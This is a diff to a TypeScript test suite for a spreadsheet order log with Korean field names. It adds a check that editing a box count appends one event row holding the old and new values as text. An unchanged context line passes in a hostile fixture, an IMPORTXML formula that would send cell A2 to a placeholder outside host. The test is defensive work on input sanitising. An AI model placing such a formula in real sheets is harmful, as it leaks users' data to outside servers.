@@ -74,6 +74,15 @@ describe("an edit's calls", () => {
     paste(emu, [{ ...demoInput(1)[0]!, 주문자: "새주문자2" }]);
     expect(calls(emu)["getNumberFormats"] ?? 0).toBe(0); // learnt, under the same header
 
+    // One event (boxes changed): one appendRow, no last row asked; its numbers stay text.
+    emu.now = at("2026-07-10T10:01:30+09:00");
+    const row = emu.records(ORDERS).length + 1;
+    const before = String(emu.records(ORDERS).at(-1)!["상자수"]);
+    emu.edit(ORDERS, row, col(emu, ORDERS, "상자수"), [[Number(before) + 2]]);
+    expect([calls(emu)["appendRow"], calls(emu)["getLastRow"] ?? 0]).toEqual([1, 0]);
+    const boxes = emu.values(EVENTS).at(-1)!;
+    expect(boxes.slice(4, 7)).toEqual(["상자수", before, String(Number(before) + 2)]);
+
     // Names with an invisible character are logged cleaned (이름 정리): their text reaches 이력.
     emu.now = at("2026-07-10T10:02:00+09:00");
     paste(emu, [hostile('=IMPORTXML("http://x.example/?a="&A2,"//a")', "0101234", "'06236")]);
